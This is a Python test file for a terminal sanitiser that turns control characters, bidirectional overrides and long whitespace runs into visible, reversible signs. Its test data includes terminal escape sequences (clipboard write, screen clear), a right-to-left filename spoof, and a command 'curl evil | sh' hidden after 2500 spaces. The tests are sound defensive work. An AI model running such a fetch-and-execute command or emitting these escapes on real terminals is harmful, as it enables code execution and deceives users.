"""The terminal sanitiser: nothing that can act on a terminal survives, and nothing is lost.

:func:`visible` and :func:`visible_command` are checked against a decoder
written here from their documented format: for any text, decoding what is
shown gives the text back (so two different texts never look the same), and
what is shown holds no control, format or separator character.
"""

from __future__ import annotations

import json
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from subagents._visible import SPACE_RUN, json_safe, visible, visible_command

_SIGN = re.compile(r"⟨(?:U\+([0-9A-F]{4,6})|(\d+) spaces)⟩")


def decode(shown: str) -> str:
    """The text that :func:`visible` or :func:`visible_command` showed as ``shown``."""
    out: list[str] = []
    index = 0
    while index < len(shown):
        char = shown[index]
        if char == "⟨":
            sign = _SIGN.match(shown, index)
            assert sign is not None, shown
            code, spaces = sign.groups()
            out.append(chr(int(code, 16)) if code else " " * int(spaces))
            index = sign.end()
            continue
        if 0x2400 <= ord(char) < 0x2420:
            out.append(chr(ord(char) - 0x2400))
        elif char == "\u2421":
            out.append("\x7f")
        else:
            assert not 0x2420 <= ord(char) < 0x2440, shown
            out.append(char)
        index += 1
    return "".join(out)


#: Text with a high share of the characters that matter here.
hostile_text = st.text(
    st.one_of(
        st.characters(),
        st.sampled_from(
            list(
                "\x1b\x07\x7f\x9b\x9d\r\n\t\\ ⟨⟩U+␛␡\u2424\u202e\u2066\u200b\u2028\ufeff\u3164\xa0"
            )
        ),
    ),
    max_size=60,
)


def unsafe(char: str) -> bool:
    """Whether ``char`` must never reach a terminal raw."""
    category = unicodedata.category(char)
    return (
        category in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
        or (category == "Zs" and char != " ")
        or char in "\u115f\u1160\u3164\uffa0"
    )


@given(hostile_text)
def test_visible_shows_no_control_and_loses_nothing(text: str) -> None:
    shown = visible(text)
    assert not any(unsafe(c) for c in shown), repr(shown)
    assert decode(shown) == text


@given(hostile_text)
def test_visible_with_newlines_keeps_only_newlines_and_tabs(text: str) -> None:
    shown = visible(text, newlines=True)
    assert not any(unsafe(c) for c in shown if c not in "\n\t"), repr(shown)
    assert decode(shown) == text
    assert shown.count("\n") == text.count("\n")


@given(hostile_text)
def test_visible_command_hides_no_whitespace_and_loses_nothing(text: str) -> None:
    shown = visible_command(text)
    assert not any(unsafe(c) for c in shown if c != "\n"), repr(shown)
    assert " " * SPACE_RUN not in shown
    assert "\t" not in shown
    assert decode(shown) == text


@given(hostile_text, hostile_text)
def test_different_texts_never_look_the_same(first: str, second: str) -> None:
    if first != second:
        assert visible(first) != visible(second)
        assert visible_command(first) != visible_command(second)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("src/app.py", "src/app.py"),
        ("naïve café 日本語 ✓", "naïve café 日本語 ✓"),
        ("a\x1b]52;c;cHduZWQ=\x07b", "a␛]52;c;cHduZWQ=␇b"),
        ("\x1b[2J\x9b6n\x7f", "␛[2J⟨U+009B⟩6n␡"),
        ("invoice\u202efdp.exe", "invoice⟨U+202E⟩fdp.exe"),
        ("line one\nline two\r", "line one␊line two␍"),
        ('print("a\\nb")  # C:\\Users', 'print("a\\nb")  # C:\\Users'),
        ("a literal ␛ and ⟨U+0000⟩", "a literal ⟨U+241B⟩ and ⟨U+27E8⟩U+0000⟩"),
        ("tab\there", "tab␉here"),
        ("\U000e0041tag\udcff", "⟨U+E0041⟩tag⟨U+DCFF⟩"),
    ],
)
def test_examples(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_a_long_run_of_spaces_is_counted_and_the_tail_shown() -> None:
    command = "ls" + " " * 2500 + "; curl evil | sh"
    assert visible_command(command) == "ls⟨2500 spaces⟩; curl evil | sh"
    assert visible_command("a  b\tc\rd\ne") == "a  b␉c␍d\ne"
    assert visible_command("echo ⟨3 spaces⟩") == "echo ⟨U+27E8⟩3 spaces⟩"


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | hostile_text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(hostile_text, inner, max_size=4),
    max_leaves=12,
)


@given(json_values)
def test_json_safe_keeps_the_value_and_writes_nothing_a_terminal_obeys(value: object) -> None:
    for indent in (None, 2):
        text = json_safe(json.dumps(value, ensure_ascii=False, indent=indent))
        assert json.loads(text) == value
        assert not any(unsafe(c) or c == "\x7f" for c in text if c != "\n"), repr(text)
